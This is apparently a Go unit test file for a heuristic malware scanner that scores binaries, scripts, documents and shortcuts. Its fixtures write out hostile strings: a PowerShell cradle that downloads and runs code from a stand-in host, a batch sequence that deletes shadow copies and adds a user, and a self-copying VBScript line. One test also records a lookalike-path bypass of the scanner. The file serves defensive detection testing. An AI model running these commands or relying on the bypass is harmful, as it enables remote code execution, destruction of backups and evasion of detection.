package heuristic

import (
	"strings"
	"sync"
	"testing"

	fuzz "github.com/AdaLogics/go-fuzz-headers"
	"github.com/google/go-cmp/cmp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/xkilldash9x/warden/internal/features"
)

// binary returns a quiet executable: resources present, entry point early,
// no signature. Its only contribution is the small import table bonus.
func binary(path string, imports ...string) *features.FeatureSet {
	return &features.FeatureSet{
		Path:         path,
		Extension:    extOf(path),
		Kind:         features.KindBinary,
		IsExecutable: true,
		Sections: []features.Section{
			{Name: ".text", RawSize: 4096},
			{Name: ".rsrc", RawSize: 4096},
		},
		ImportedSymbols:      imports,
		EntryPointFileOffset: 1024,
		FileSize:             100000,
		Raw:                  []byte("MZ"),
	}
}

func extOf(path string) string {
	for i := len(path) - 1; i >= 0 && path[i] != '/' && path[i] != '\\'; i-- {
		if path[i] == '.' {
			return path[i:]
		}
	}
	return ""
}

var maliciousImports = []string{
	"LoadLibraryA", "GetProcAddress", "SetFileAttributesW", "AdjustTokenPrivileges",
	"SetWindowsHookExA", "CreateRemoteThread",
}

func TestEvaluate_EmptyInput(t *testing.T) {
	assert.Equal(t, Verdict{}, Evaluate("x.exe", nil, true))
	assert.Equal(t, Verdict{}, Evaluate("x.exe", &features.FeatureSet{Kind: features.KindBinary}, true))
}

func TestEvaluate_ImportCascade(t *testing.T) {
	v := Evaluate("", binary("/tmp/dropper.exe", maliciousImports...), false)

	assert.Equal(t, 15+20+20+20+10+5, v.Score)
	assert.True(t, v.Malicious())
	assert.Equal(t, "HEUR:API.DynamicLoad.a", v.ThreatName, "first named rule wins")
	assert.Equal(t, []string{"DynamicLoad", "HideFile", "Privilege", "Hook", "RemoteThread", "FewImports"}, v.Tags)
	assert.Equal(t, "DynamicLoad HideFile Privilege Hook RemoteThread FewImports", v.TagString())
}

func TestEvaluate_SystemDirectoryBypass(t *testing.T) {
	fs := binary(`C:\Windows\System32\evil.exe`, maliciousImports...)
	fs.Raw = []byte("MZ wannacry vmware fodhelper.exe")

	assert.Equal(t, Verdict{}, Evaluate(fs.Path, fs, true))

	// The marker is a plain substring, so lookalike trees qualify too.
	assert.Equal(t, Verdict{}, Evaluate(`D:\WINDOWS.old\evil.exe`, fs, true))

	// Scripts are not subject to the bypass.
	script := &features.FeatureSet{Kind: features.KindScript, Script: features.FamilyBatch, Raw: []byte("vssadmin delete shadows /all")}
	assert.NotZero(t, Evaluate(`C:\Windows\Temp\x.bat`, script, false).Score)
}

func TestEvaluate_KnownFamilyPriority(t *testing.T) {
	fs := binary("/tmp/dropper.exe", maliciousImports...)
	fs.Raw = []byte("MZ ... WannaCry ...")

	v := Evaluate(fs.Path, fs, false)
	assert.Equal(t, "HEUR:Ransom.WannaCry.a", v.ThreatName)
	assert.Contains(t, v.Tags, "KnownFamily")
	assert.Equal(t, 90, v.Score, "family naming does not change the score")

	t.Run("minimum occurrence count", func(t *testing.T) {
		once := binary("/tmp/a.exe")
		once.Raw = []byte("MZ petya")
		assert.NotEqual(t, "HEUR:Ransom.Petya.a", Evaluate(once.Path, once, false).ThreatName)

		twice := binary("/tmp/a.exe")
		twice.Raw = []byte("MZ Petya ... PETYA")
		assert.Equal(t, "HEUR:Ransom.Petya.a", Evaluate(twice.Path, twice, false).ThreatName)
	})

	t.Run("scripts check families first", func(t *testing.T) {
		fs := &features.FeatureSet{
			Kind:   features.KindScript,
			Script: features.FamilyPowerShell,
			Raw:    []byte("# lockbit\nIEX (New-Object Net.WebClient).DownloadString('http://x')"),
		}
		assert.Equal(t, "HEUR:Ransom.LockBit.a", Evaluate("/tmp/a.ps1", fs, false).ThreatName)
	})

	t.Run("whole words only", func(t *testing.T) {
		fs := &features.FeatureSet{
			Kind:   features.KindScript,
			Script: features.FamilyPowerShell,
			Raw: []byte("foreach ($u in $urls) {\n  if (-not $u) { continue }\n  if ($seen[$u]) { continue }\n" +
				"  # amazement, amazement; blocky blocky\n" +
				`  powershell -nop -w hidden -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString($u)"` + "\n}"),
		}
		v := Evaluate("/tmp/loop.ps1", fs, false)
		assert.True(t, v.Malicious())
		assert.True(t, strings.HasPrefix(v.ThreatName, "HEUR:Script."), "got %s", v.ThreatName)
		assert.NotContains(t, v.Tags, "KnownFamily")

		named := binary("/tmp/a.exe")
		named.Raw = []byte("MZ conti.key\x00Conti readme")
		assert.Equal(t, "HEUR:Ransom.Conti.a", Evaluate(named.Path, named, false).ThreatName)
	})
}

func TestEvaluate_Signature(t *testing.T) {
	const trusted = "3B1EFD3A66EA28B16697394703A72CA340A05BD5"
	const unknown = "0000000000000000000000000000000000000000"

	tests := []struct {
		name    string
		signing features.SigningInfo
		score   int
		tag     string
	}{
		{"unsigned", features.SigningInfo{}, 5, ""},
		{"trusted root", features.SigningInfo{Present: true, Thumbprints: []string{unknown, trusted}, ChainBuilt: true}, 5 - 60, "TrustedSigner"},
		{"trusted root wins over broken chain", features.SigningInfo{Present: true, Thumbprints: []string{unknown, trusted}, LeafExpired: true}, 5 - 60, "TrustedSigner"},
		{"lowercase thumbprint", features.SigningInfo{Present: true, Thumbprints: []string{"3b1efd3a66ea28b16697394703a72ca340a05bd5"}}, 5 - 60, "TrustedSigner"},
		{"expired leaf", features.SigningInfo{Present: true, Thumbprints: []string{unknown}, LeafExpired: true, Revoked: true}, 5 + 10, "ExpiredCert"},
		{"revoked", features.SigningInfo{Present: true, Thumbprints: []string{unknown}, Revoked: true}, 5 + 5, "RevokedCert"},
		{"valid unknown chain", features.SigningInfo{Present: true, Thumbprints: []string{unknown}, ChainBuilt: true}, 5 - 5, "ValidSigner"},
		{"present but unverifiable", features.SigningInfo{Present: true}, 5, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := binary("/tmp/app.exe")
			fs.Signing = tt.signing
			v := Evaluate(fs.Path, fs, false)
			assert.Equal(t, tt.score, v.Score)
			if tt.tag != "" {
				assert.Contains(t, v.Tags, tt.tag)
			}
		})
	}
}

func TestEvaluate_Structural(t *testing.T) {
	t.Run("missing resources", func(t *testing.T) {
		fs := binary("/tmp/app.exe")
		fs.Sections = fs.Sections[:1]
		assert.Equal(t, 5+10, Evaluate(fs.Path, fs, false).Score)
	})
	t.Run("packer section", func(t *testing.T) {
		fs := binary("/tmp/app.exe")
		fs.Sections = append(fs.Sections, features.Section{Name: "UPX0"})
		v := Evaluate(fs.Path, fs, false)
		assert.Equal(t, 5+10, v.Score)
		assert.Equal(t, "HEUR:Packed.Generic.a", v.ThreatName)
	})
	t.Run("entry point in last fifth", func(t *testing.T) {
		fs := binary("/tmp/app.exe")
		fs.EntryPointFileOffset = 90000
		assert.Equal(t, 5+10, Evaluate(fs.Path, fs, false).Score)
	})
	t.Run("anti analysis density", func(t *testing.T) {
		fs := binary("/tmp/app.exe", "IsDebuggerPresent", "CheckRemoteDebuggerPresent", "GetTickCount")
		assert.Equal(t, 5+9, Evaluate(fs.Path, fs, false).Score)
	})
}

func TestEvaluate_Library(t *testing.T) {
	tests := []struct {
		name    string
		exports []string
		score   int
	}{
		{"no exports", []string{}, 5 + 5},
		{"hook exports", []string{"InstallKeyboardHook", "DllMain"}, 5 + 20},
		{"browser engine hooks", []string{"InstallHook", "ChromeMain"}, 5},
		{"ordinary exports", []string{"Initialize", "Shutdown"}, 5},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := binary("/tmp/lib.dll")
			fs.IsLibrary = true
			fs.ExportedSymbols = tt.exports
			assert.Equal(t, tt.score, Evaluate(fs.Path, fs, false).Score)
		})
	}
}

func TestEvaluate_Location(t *testing.T) {
	t.Run("odd extension and media disguise", func(t *testing.T) {
		fs := binary("/home/u/holiday.jpg")
		v := Evaluate(fs.Path, fs, false)
		assert.Equal(t, 5+20+20, v.Score)
		assert.Equal(t, "HEUR:Trojan.Masquerade.a", v.ThreatName)
	})
	t.Run("media extension anywhere in path", func(t *testing.T) {
		fs := binary(`C:\Users\u\photos.zip\setup.exe`)
		assert.Equal(t, 5+20, Evaluate(fs.Path, fs, false).Score)
	})
	t.Run("hidden exe in startup", func(t *testing.T) {
		fs := binary(`C:\Users\u\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\svc.exe`)
		fs.Hidden = true
		assert.Equal(t, 5+20, Evaluate(fs.Path, fs, false).Score)
	})
	t.Run("document carrying loader strings", func(t *testing.T) {
		doc := &features.FeatureSet{Kind: features.KindDocument, Extension: ".doc", Raw: []byte("...GetProcAddress...")}
		v := Evaluate("/tmp/invoice.doc", doc, false)
		assert.Equal(t, 10, v.Score)
		assert.Equal(t, "HEUR:Trojan.DocDropper.a", v.ThreatName)
	})
	t.Run("cjk markers without office markers", func(t *testing.T) {
		doc := &features.FeatureSet{Kind: features.KindDocument, Raw: []byte("\xe6\x9c\xa8\xe9\xa9\xac")}
		assert.Equal(t, 10, Evaluate("/tmp/a.txt", doc, false).Score)

		doc.Raw = []byte("\xe6\x9c\xa8\xe9\xa9\xac [Content_Types].xml")
		assert.Equal(t, 0, Evaluate("/tmp/a.docx", doc, false).Score)
	})
}

func TestEvaluate_DeepScanOnly(t *testing.T) {
	fs := binary("/tmp/app.exe")
	fs.Raw = []byte("MZ vmware fodhelper.exe")

	assert.Equal(t, 5, Evaluate(fs.Path, fs, false).Score)

	v := Evaluate(fs.Path, fs, true)
	assert.Equal(t, 5+20+15, v.Score)
	assert.Equal(t, []string{"FewImports", "UACBypass", "AntiVM"}, v.Tags)
}

func TestEvaluate_Scripts(t *testing.T) {
	t.Run("powershell cradle", func(t *testing.T) {
		fs := &features.FeatureSet{
			Kind:   features.KindScript,
			Script: features.FamilyPowerShell,
			Raw:    []byte(`powershell -nop -w hidden -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString('http://evil.test/a.ps1')"`),
		}
		v := Evaluate("/tmp/a.ps1", fs, false)
		assert.Equal(t, 20+25+10+15+15+5, v.Score)
		assert.Equal(t, "HEUR:Script.DynamicExec.a", v.ThreatName)
		assert.Equal(t, []string{"DynamicExec", "Download", "Network", "PS.Hidden", "PS.Bypass", "PS.NoProfile"}, v.Tags)
		assert.True(t, v.Malicious())
	})
	t.Run("batch ransomware prelude", func(t *testing.T) {
		fs := &features.FeatureSet{
			Kind:   features.KindScript,
			Script: features.FamilyBatch,
			Raw:    []byte("vssadmin delete shadows /all /quiet\r\nbcdedit /set {default} recoveryenabled no\r\nnet user backup P@ss /add"),
		}
		v := EvaluateScript("/tmp/x.bat", fs)
		assert.Equal(t, 30+20+20, v.Score)
		assert.Equal(t, "HEUR:Script.BAT.Ransom.a", v.ThreatName)
	})
	t.Run("self replicating vbscript", func(t *testing.T) {
		fs := &features.FeatureSet{
			Kind:   features.KindScript,
			Script: features.FamilyVBScript,
			Raw:    []byte(`Set fso = CreateObject("Scripting.FileSystemObject"): fso.CopyFile WScript.ScriptFullName, "D:\a.vbs"`),
		}
		v := Evaluate("/tmp/a.vbs", fs, false)
		assert.Equal(t, 10+30, v.Score)
		assert.Contains(t, v.Tags, "SelfReplicate")
	})
	t.Run("long base64 run", func(t *testing.T) {
		payload := make([]byte, 240)
		for i := range payload {
			payload[i] = 'A' + byte(i%26)
		}
		fs := &features.FeatureSet{Kind: features.KindScript, Script: features.FamilyShell, Raw: append([]byte("x="), payload...)}
		assert.Equal(t, 15, Evaluate("/tmp/a.sh", fs, false).Score)
	})
	t.Run("shortcut launching a shell", func(t *testing.T) {
		var raw []byte
		raw = append(raw, 'L', 0, 0, 0)
		for _, r := range `C:\Windows\System32\cmd.exe /c start evil` {
			raw = append(raw, byte(r), 0)
		}
		fs := &features.FeatureSet{Kind: features.KindShortcut, Raw: raw}
		v := Evaluate("/tmp/a.lnk", fs, false)
		assert.Equal(t, 20, v.Score)
		assert.Equal(t, "HEUR:Trojan.LnkLauncher.a", v.ThreatName)
	})
	t.Run("benign script", func(t *testing.T) {
		fs := &features.FeatureSet{Kind: features.KindScript, Script: features.FamilyPython, Raw: []byte("print('hello')\n")}
		assert.Equal(t, Verdict{}, Evaluate("/tmp/a.py", fs, false))
	})
}

func TestTally_FallbackName(t *testing.T) {
	tl := newTally()
	tl.add(Finding{Delta: 80, Tag: "X"}, Finding{Delta: 0, Tag: "X"})
	v := tl.verdict()
	assert.Equal(t, GenericName, v.ThreatName)
	assert.Equal(t, []string{"X"}, v.Tags)

	below := newTally()
	below.add(Finding{Delta: 74, Tag: "Y"})
	assert.Empty(t, below.verdict().ThreatName)
	assert.False(t, below.verdict().Malicious())
}

func TestEvaluate_DeterministicUnderConcurrency(t *testing.T) {
	fs := binary("/tmp/app.exe", maliciousImports...)
	fs.Raw = []byte("MZ vmware Virtual themida msmpeng.exe driver.sys")
	want := Evaluate(fs.Path, fs, true)

	var wg sync.WaitGroup
	results := make([]Verdict, 32)
	for i := range results {
		wg.Add(1)
		go func() {
			defer wg.Done()
			results[i] = Evaluate(fs.Path, fs, true)
		}()
	}
	wg.Wait()
	for _, got := range results {
		require.Empty(t, cmp.Diff(want, got))
	}
}

func FuzzEvaluateDeterministic(f *testing.F) {
	f.Add([]byte("MZ seed"))
	f.Fuzz(func(t *testing.T, data []byte) {
		consumer := fuzz.NewConsumer(data)
		fs := &features.FeatureSet{}
		if err := consumer.GenerateStruct(fs); err != nil {
			return
		}
		deep, err := consumer.GetBool()
		if err != nil {
			return
		}

		first := Evaluate(fs.Path, fs, deep)
		second := Evaluate(fs.Path, fs, deep)
		if diff := cmp.Diff(first, second); diff != "" {
			t.Fatalf("verdict changed between identical evaluations (-first +second):\n%s", diff)
		}
		if first.Malicious() && first.ThreatName == "" {
			t.Fatalf("malicious verdict without a name: %+v", first)
		}
	})
}
